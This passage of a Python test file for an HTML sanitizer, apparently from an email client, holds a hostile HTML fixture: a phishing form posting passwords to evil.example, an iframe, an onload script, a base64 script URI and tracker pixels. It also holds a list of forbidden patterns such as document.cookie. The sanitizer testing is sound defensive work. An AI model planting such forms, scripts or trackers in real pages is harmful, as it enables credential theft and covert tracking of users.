<img src="data:text/html;base64,PHNjcmlwdD4=">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>
<table background="https://tracker.example/table.gif"><tr><td>cell</td></tr></table>
<svg onload="alert(4)"><image href="https://tracker.example/svg.gif"/></svg>
</body></html>"""


def test_sanitize_html_removes_active_content_and_remote_loads():
    safe = sanitize_html(HOSTILE_HTML)
    lowered = safe.lower()
    for forbidden in (
        "<script", "document.cookie", "onload", "onerror", "onclick", "javascript:", "<iframe",
        "<object", "<embed", "<form", "<input", "<base", "<meta", "<style", "<svg",
        "position", "url(", "data:text/html", "svg+xml", "background=", "evil.example",
    ):  # fmt: skip
        assert forbidden not in lowered, forbidden
    # No remote source is left that a browser would load.
    assert not re.search(r"(?<![-\w])src=\"(https?:)?//", safe)
    assert 'data-remote-src="https://tracker.example/p.gif"' in safe
    assert 'data-remote-src="http://tracker.example/q.gif"' in safe
    assert '<img src="cid:logo@ourco.example" alt="logo">' in safe
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in safe
    assert '<p style="color:blue">Price list</p>' in safe
    link = re.search(r'<a [^>]*href="https://acme.example/offer"[^>]*>', safe).group(0)
    assert 'rel="noopener noreferrer nofollow"' in link and 'target="_blank"' in link
    assert "<b>Bob</b>" in safe and "<td>cell</td>" in safe


def test_sanitize_html_can_show_remote_images_when_asked():
    safe = sanitize_html(HOSTILE_HTML, allow_remote_images=True)
    assert '<img src="https://tracker.example/p.gif" width="1" height="1">' in safe
    assert "data-remote-src" not in safe
    assert "onerror" not in safe and "<script" not in safe and "url(" not in safe
    assert 'src="cid:logo@ourco.example"' in safe


def test_sanitize_html_ignores_a_data_remote_src_sent_by_the_message():
    html = '<img data-remote-src="https://tracker.example/x.gif" src="cid:a@b">'
    assert sanitize_html(html) == '<img src="cid:a@b">'
    assert sanitize_html(html, allow_remote_images=True) == '<img src="cid:a@b">'
    assert sanitize_html("") == ""
